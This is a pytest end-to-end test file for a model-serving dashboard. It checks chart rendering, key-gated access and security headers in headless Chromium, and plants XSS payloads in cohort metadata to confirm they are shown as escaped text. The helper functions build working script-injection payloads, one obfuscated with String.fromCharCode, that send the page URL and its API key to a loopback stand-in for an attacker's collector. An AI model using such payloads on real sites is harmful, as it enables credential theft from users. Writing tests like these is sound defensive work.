"""``/dashboard`` in a real browser: headless Chromium loads the page from a running server
after a short burst, and the page's charts hold the burst's data; a cohort whose texts carry
script payloads shows them as text, and nothing reaches a collector on loopback."""

from __future__ import annotations

import html
import json
import os
import re
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from tests.e2e.conftest import ServerProcess

API_KEY = "e2e-k3y"  # as the shared server is started with (conftest.API_KEY)
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="no chromium on PATH (Debian package `chromium`; setup.sh installs it)"
)
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def chromium(
    url: str, profile: Path, *extra: str, budget_ms: int = 5000, timeout_s: float = 90
) -> str:
    """Load ``url`` headless, let its scripts run ``budget_ms`` of virtual time; stdout.

    Raises ``subprocess.TimeoutExpired`` (after killing the browser's process group) when it
    does not finish in ``timeout_s``: an open ``alert()`` stalls it."""
    assert CHROMIUM is not None
    cmd = [
        CHROMIUM, *FLAGS, f"--user-data-dir={profile}", f"--virtual-time-budget={budget_ms}",
        *extra, url,
    ]  # fmt: skip
    proc = subprocess.Popen(
        cmd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True
    )
    try:
        out, _ = proc.communicate(timeout=timeout_s)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        raise
    return out


def burst(url: str, n: int = 60) -> None:
    headers = {"authorization": f"Bearer {API_KEY}"}
    texts = ["a good movie", "the plot was awful and slow", "fine", "not so great at all"]
    with (
        httpx.Client(base_url=url, headers=headers, timeout=30, trust_env=False) as c,
        ThreadPoolExecutor(8) as pool,
    ):
        answers = [pool.submit(c.post, "/predict", json={"inputs": texts[j % 4]}) for j in range(n)]
        codes = [a.result() for a in answers]
    assert all(r.status_code == 200 for r in codes), [
        (r.status_code, r.text[:200]) for r in codes if r.status_code != 200
    ][:3]


def test_the_page_plots_a_burst(server, tmp_path):
    burst(server.url)
    dom = chromium(f"{server.url}/dashboard?key={API_KEY}", tmp_path / "profile", "--dump-dom")
    points = dict(re.findall(r'id="chart-(\w+)" data-points="(\d+)"', dom))
    assert int(points["rps"]) > 0 and int(points["latency"]) > 0, points
    assert int(points["k"]) > 0 and int(points["batch"]) > 0, points
    updates = re.search(r'<body data-updates="(\d+)"', dom)
    assert updates and int(updates.group(1)) >= 1, dom[:2000]
    status = re.search(r'<div id="status"[^>]*>([^<]*)</div>', dom)
    assert status and "students, k now" in status.group(1), status
    assert "<td>1</td>" in dom  # the prefix table's first row (k = 1)
    shot = tmp_path / "dashboard.png"
    chromium(
        f"{server.url}/dashboard?key={API_KEY}", tmp_path / "profile2",
        f"--screenshot={shot}", "--window-size=1400,1000", "--hide-scrollbars",
    )  # fmt: skip
    assert shot.is_file() and shot.stat().st_size > 10_000


def test_the_page_and_its_data_need_the_key(server):
    with httpx.Client(base_url=server.url, timeout=30, trust_env=False) as c:
        assert c.get("/dashboard").status_code == 401
        assert c.get("/dashboard/data").status_code == 401
        assert c.get("/dashboard/data", params={"key": "wrong"}).status_code == 401
        data = c.get("/dashboard/data", params={"key": API_KEY})
        page = c.get("/dashboard", params={"key": API_KEY})
        # the key in a query string opens the dashboard only
        assert c.get("/info", params={"key": API_KEY}).status_code == 401
    assert data.status_code == page.status_code == 200
    assert "script-src 'sha256-" in page.headers["content-security-policy"]
    assert page.headers["referrer-policy"] == data.headers["referrer-policy"] == "no-referrer"
    body = data.json()
    assert len(body["series"]["t"]) == body["window_s"]
    assert body["policy"]["n_students"] == body["n_students"] == 3


# ------------------------------------------------------------------------------ hostile cohort


class Listener:
    """A loopback HTTP server that records every request it gets (an attacker's collector)."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Record(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> list[str]:
        """Stop serving, wait for the requests in hand; every path received."""
        self.httpd.shutdown()
        self.httpd.server_close()  # joins the handler threads
        self.thread.join(10)
        return list(self.hits)


def attack(collector: str, field: str) -> str:
    """Script that marks the page, sends its address (with ``?key=``) to ``collector`` by
    fetch and by image, then opens a dialog (which would stall headless Chromium)."""
    send = f"'{collector}/?f={field}&k='+encodeURIComponent(location.href)"
    return (
        f"document.documentElement.dataset.pwned='{field}';fetch({send});"
        f"new Image().src={send};alert(1)"
    )


def payloads(collector: str, field: str) -> list[str]:
    """The usual ways out of a text field: an element with a handler, a closed script, a
    broken attribute."""
    js = attack(collector, field)
    return [
        f'<img src=x onerror="{js}">',
        f"</script><script>{js}</script>",
        f'"\'><svg onload="{js}">',
    ]


def slashless(collector: str) -> str:
    """An ``<img onerror>`` payload usable as a folder name (the served model id)."""
    codes = ",".join(str(ord(c)) for c in f"{collector}/?f=model_id&k=")
    return (
        f"<img src=x onerror=document.documentElement.dataset.pwned=1;"
        f"fetch(String.fromCharCode({codes})+encodeURIComponent(location.href));alert(1)>"
    )


@pytest.fixture(scope="module")
def hostile(e2e_cohort, profile_cache, tmp_path_factory) -> Iterator[tuple]:
    """A server whose cohort carries script payloads in its folder name, label names and every
    text of its prefix table (keys and values), with the collector they would report to."""
    listener = Listener()
    folder = tmp_path_factory.mktemp("hostile") / slashless(listener.url)
    shutil.copytree(e2e_cohort, folder)
    meta_file = folder / "shoal_meta.json"
    meta = json.loads(meta_file.read_text())
    label_payloads = payloads(listener.url, "label")
    meta["label_names"] = label_payloads[:2]
    for row in meta["prefix_accuracy"]:
        row["note"] = payloads(listener.url, f"value{row['k']}")[row["k"] - 1]
        row[payloads(listener.url, "column")[row["k"] - 1]] = row["k"]
    meta_file.write_text(json.dumps(meta))
    server = ServerProcess(
        folder, folder.parent / "server.log", "--profile-cache", str(profile_cache),
        "--api-key", API_KEY,
    )  # fmt: skip
    try:
        server.wait_ready()
        yield server, listener, folder.name, meta
    finally:
        listener.close()
        server.terminate()


def test_hostile_cohort_text_stays_text(hostile, tmp_path):
    server, listener, model_id, meta = hostile
    url = f"{server.url}/dashboard?key={API_KEY}"
    try:
        dom: str | None = chromium(url, tmp_path / "profile", "--dump-dom", timeout_s=45)
    except subprocess.TimeoutExpired:
        dom = None
    hits = listener.close()
    assert hits == [], f"a payload ran and reached the collector: {hits}"
    assert dom is not None, "the page stalled headless Chromium: a payload opened a dialog"
    assert "data-pwned" not in dom, "a payload ran and marked the page"
    updates = re.search(r'<body[^>]* data-updates="(\d+)"', dom)
    assert updates and int(updates.group(1)) >= 1, dom[:3000]  # the page ran
    texts = [model_id, *meta["label_names"]]
    for row in meta["prefix_accuracy"]:
        texts += [row["note"], *(c for c in row if c.startswith(("<", "</", '"')))]
    for text in texts:  # each one shown, as text: escaped in the serialised DOM
        assert html.escape(text, quote=False) in dom, text
